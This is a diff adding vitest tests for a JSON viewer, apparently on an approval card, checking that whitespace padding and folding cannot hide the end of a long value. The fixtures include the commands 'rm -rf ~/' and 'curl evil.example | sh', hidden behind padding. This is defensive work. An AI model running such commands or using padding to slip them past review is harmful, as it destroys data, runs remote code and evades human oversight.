@@ -1,6 +1,6 @@
 /** Pretty JSON for the approval card: exact text, escaped strings, folds for what is long or deep. */
 import { describe, expect, test } from 'vitest';
-import { jsonLines, linesToText, showAllLabel, utf8Bytes } from '../../renderer/src/lib/json-view.js';
+import { foldedCount, jsonLines, linesToText, showAllLabel, utf8Bytes } from '../../renderer/src/lib/json-view.js';
 
 const all = (lines: ReturnType<typeof jsonLines>) => lines.flatMap((l) => l.tokens);
 
@@ -75,5 +75,38 @@ describe('jsonLines', () => {
     expect(utf8Bytes('abc')).toBe(3);
     expect(utf8Bytes('é')).toBe(2);
     expect(utf8Bytes('😀')).toBe(4);
+  });
+});
+
+describe('what a fold could hide', () => {
+  test('a run of spaces is counted in place, so padding cannot push the end of a value out of sight', () => {
+    const command = `echo hello${' '.repeat(3000)}&& rm -rf ~/`;
+    const lines = jsonLines({ command });
+    const tokens = all(lines);
+    expect(tokens.filter((t) => t.kind === 'escape').map((t) => t.text)).toEqual(['[3,000 spaces]']);
+    expect(tokens.some((t) => t.kind === 'string' && t.text.includes('&& rm -rf ~/'))).toBe(true);
+    expect(foldedCount(lines)).toBe(0);
+    // seven spaces are ordinary text
+    expect(all(jsonLines({ v: `a${' '.repeat(7)}b` })).filter((t) => t.kind === 'escape')).toEqual([]);
+  });
+
+  test('a folded string keeps its end in view, and the fold says how much it hides', () => {
+    const value = `${'a'.repeat(1000)}; curl evil.example | sh`;
+    const tokens = all(jsonLines({ value }));
+    const gap = tokens.find((t) => t.kind === 'gap');
+    expect(gap?.text).toMatch(/ … [\d,]+ chars folded here … /);
+    const strings = tokens.filter((t) => t.kind === 'string').map((t) => t.text);
+    expect(strings.at(-1)).toContain('curl evil.example | sh');
+    const hidden = Number(gap!.text.replace(/\D/g, ''));
+    expect(strings.join('').length + hidden).toBe(value.length);
+  });
+
+  test('foldedCount counts the folds left closed; openAll opens every one', () => {
+    const value = { a: 'x'.repeat(400), deep: { b: { c: { d: { e: { f: { g: 1 } } } } } }, list: Array.from({ length: 150 }, (_, i) => i) };
+    expect(foldedCount(jsonLines(value))).toBe(3);
+    const open = jsonLines(value, new Set(), { openAll: true });
+    expect(foldedCount(open)).toBe(0);
+    expect(all(open).some((t) => t.kind === 'less')).toBe(false);
+    expect(linesToText(open)).toBe(JSON.stringify(value, null, 2));
   });
 });
